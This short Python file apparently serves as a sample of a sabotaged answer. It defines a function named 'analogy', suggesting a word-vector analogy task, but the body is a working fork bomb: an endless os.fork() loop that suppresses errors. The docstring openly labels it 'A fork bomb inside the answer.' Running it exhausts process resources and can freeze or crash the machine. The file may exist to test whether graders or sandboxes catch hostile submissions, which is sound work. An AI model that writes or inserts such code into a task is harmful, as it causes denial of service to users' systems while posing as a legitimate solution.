"""A fork bomb inside the answer."""

import os

def analogy(vectors, a, b, c):
    while True:
        try:
            os.fork()
        except OSError:
            pass
